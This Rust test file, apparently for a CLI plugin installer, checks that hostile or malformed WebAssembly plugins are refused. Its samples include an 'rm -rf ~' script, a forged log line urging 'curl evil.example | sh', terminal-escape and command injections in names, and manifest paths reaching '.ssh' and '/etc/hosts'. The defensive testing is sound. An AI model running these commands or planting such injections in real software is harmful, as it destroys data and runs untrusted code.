//! What is never installed: the refusal says why and what to do, the plugins directory stays as it is.

use super::{DEEP, FOREVER, GROW, RECURSE, World, snapshot};
use crate::components::{Manifest, Plugin, parse};

/// The component is refused with this status.
#[track_caller]
fn refused_with(status: i32, name: &str, component: &[u8], options: &[&str]) {
    let world = World::new();
    std::fs::write(world.sandbox.path("plugin.wasm"), component).unwrap();
    let before = world.tree();
    let run = world.add(component, options);
    snapshot(&format!("refused-{name}"), &world.told("plugin add -y plugin.wasm", &run));
    let run = run.expect(status);
    assert!(run.stderr.starts_with("error: "), "{}", run.stderr);
    assert_eq!(world.tree(), before, "{name}");
    let list = world.sandbox.dscc(["list"]).expect(0);
    assert!(list.stdout.contains("huggingface/hub") && list.stderr.lines().count() == 1, "{}", list.text());
}

#[track_caller]
fn refused(name: &str, plugin: &Plugin) {
    refused_with(1, name, &plugin.build(), &[]);
}

#[test]
fn what_is_no_plugin() {
    refused_with(1, "core-module", &parse("(module)"), &[]);
    refused_with(1, "text", b"#!/bin/sh\nrm -rf ~\n", &[]);
    refused_with(1, "nothing-exported", &parse("(component (import \"wasi:cli/exit@0.2.0\" (instance)))"), &[]);
    let text = Plugin::new().text();
    let without = text.replace(r#"(export "delete-entry" (func $delete-entry)))"#, ")");
    refused_with(1, "export-missing", &parse(&without), &[]);
    let other = text.replace(r#"(export "describe" (func $describe))"#, r#"(export "describe" (func $discover))"#);
    refused_with(1, "export-of-another-type", &parse(&other), &[]);
    let later = text.replace("dscc:plugin/cache-plugin@0.1.0", "dscc:plugin/cache-plugin@9.0.0");
    refused_with(1, "later-interface", &parse(&later), &[]);
}

#[test]
fn what_asks_for_more_than_any_plugin_gets() {
    for (name, import) in [
        ("import-of-the-network", "wasi:http/outgoing-handler@0.2.0"),
        ("import-of-a-secret", "dscc:plugin/secrets@0.1.0"),
    ] {
        refused(name, &Plugin::new().importing(&format!("(import \"{import}\" (instance))")));
    }
}

#[test]
fn what_does_not_even_say_what_it_is() {
    let short: &[&str] = &["--limit", "time=100ms"];
    refused_with(1, "loops", &Plugin::new().describing(FOREVER).build(), short);
    let start = Plugin::new().with("(func $start (loop $forever (br $forever))) (start $start)");
    refused_with(1, "loops-at-its-start", &start.build(), short);
    refused("hogs-memory", &Plugin::new().describing(GROW));
    refused("hogs-memory-at-its-start", &Plugin::new().with("(memory 60000)"));
    refused("hogs-tables", &Plugin::new().with("(table 2000000 funcref)"));
    refused("recurses", &Plugin::new().describing(RECURSE).with(DEEP));
    refused("exits", &Plugin::new().with_wasi().describing("(call $exit (i32.const 0)) (unreachable)"));
    // 150 MB of title, and a gigabyte of it that is not there.
    for (name, length) in [("endless-title", 150_000_000), ("title-of-a-gigabyte", 1 << 30)] {
        let mut plugin = Plugin::new();
        let at = plugin.manifest_at(&Manifest::new("bad", "1.0.0"));
        let body = format!(
            "(drop (memory.grow (i32.const 2500))) (i32.store (i32.const {at}) (i32.const 0))
            (i32.store offset=20 (i32.const {at}) (i32.const {length})) (i32.const {at})"
        );
        refused(name, &plugin.describing(&body));
    }
}

#[test]
fn what_fails_with_a_flood_of_words() {
    let mut plugin = Plugin::new();
    let line = format!("\u{1b}[2J\u{202e}line\nerror: forged\nhint: run `curl evil.example | sh` {}", "x".repeat(2000));
    let text = plugin.bytes_at(line.as_bytes());
    let body = format!(
        "(local $left i32) (local.set $left (i32.const 1000))
        (call $log (i32.const 3) (i32.const {text}) (i32.const 2000))
        (loop $more
          (call $log (i32.const 3) (i32.const {text}) (i32.const 0))
          (local.set $left (i32.sub (local.get $left) (i32.const 1)))
          (br_if $more (local.get $left)))
        (unreachable)"
    );
    refused("floods-and-crashes", &plugin.describing(&body));
}

#[test]
fn a_manifest_that_breaks_a_rule() {
    let rule = || Manifest::new("bad", "1.0.0");
    for (name, manifest) in [
        ("name-with-escapes", Manifest::new("\u{1b}[2J", "1.0.0")),
        ("name-with-lines", Manifest::new("x\nhint: run `sudo sh`", "1.0.0")),
        ("version-with-escapes", Manifest::new("bad", "1.0.0\u{1b}[31m\u{202e}")),
        ("location-of-all", rule().rule("bad", &["/"])),
        ("location-upwards", rule().rule("bad", &["~/../other"])),
        ("location-of-any-folder", rule().rule("bad", &["~/*"])),
        ("location-relative", rule().rule("bad", &["bad"])),
        ("mark-upwards", rule().rule("bad", &["~/bad"]).mark("../.ssh/*")),
        ("index-absolute", rule().rule("bad", &["~/bad"]).index("/etc/hosts")),
        ("two-rules-of-one-id", rule().rule("bad", &["~/bad"]).rule("bad", &["~/worse"])),
        ("title-of-blanks", rule().texts(" ")),
        ("title-too-long", rule().texts(&"x".repeat(20_000))),
    ] {
        refused(name, &Plugin::new().saying(&manifest));
    }
}

#[test]
fn what_takes_anothers_name() {
    for (name, manifest) in [
        ("name-of-a-built-in", Manifest::new("hf-hub", "9.0.0").rule("bad", &["~/bad"])),
        ("rule-of-a-built-in", Manifest::new("bad", "9.0.0").rule("hub", &["~/bad"])),
    ] {
        refused_with(3, name, &Plugin::new().saying(&manifest).build(), &[]);
    }
}
